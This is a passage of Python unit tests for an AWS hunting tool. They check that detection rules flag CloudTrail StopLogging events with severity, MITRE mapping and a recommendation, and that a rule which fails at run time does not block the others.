    assert rule.custom["recommendation"] == "Restart logging and find who stopped it."
    store = store_of([event(eventName="StopLogging"), event()])
    matches = match_rules(store.db, ruleset.rules)
    detections = to_detections(ruleset.rules, matches)
    assert [(d.rule, d.severity, d.source, len(d.rowids)) for d in detections] == [
        ("meta_rule", Severity.MEDIUM, "rule", 1),
        ("4e0e7d3c-9a1f-4c55-b1b2-0000000000ff", Severity.INFO, "rule", 1),
    ]
    assert detections[0].recommendation == "Restart logging and find who stopped it."
    assert detections[0].mitre == ("T1562.008", "T1078")


def test_a_rule_that_fails_at_run_time_does_not_stop_the_others(tmp_path: Path) -> None:
    ruleset = load_rules(
        [write_rule(tmp_path, "sel:\n    eventName: StopLogging\ncondition: sel\n")], include_builtin=False
    )
    good = ruleset.rules[0]
    bad = HuntRule(
        id="bad",
        title="Bad",
        description="",
        level=Severity.LOW,
        mitre=(),
        path="x.yml",
        kind="event",
        sql='CAST("eventName" AS INTEGER) = 1',
    )
    store = store_of([event(eventName="StopLogging")])
    problems: list[Any] = []
    matches = match_rules(store.db, [good, bad], problems=problems)
    assert len(matches[good.id]) == 1 and "bad" not in matches
    assert [p.rule for p in problems] == ["bad"]


def test_builtin_rules_dir_is_the_hunt_pack() -> None:
    assert builtin_rules_dir() == Path(__file__).resolve().parents[1] / "src" / "awsrespond" / "hunt" / "rules"
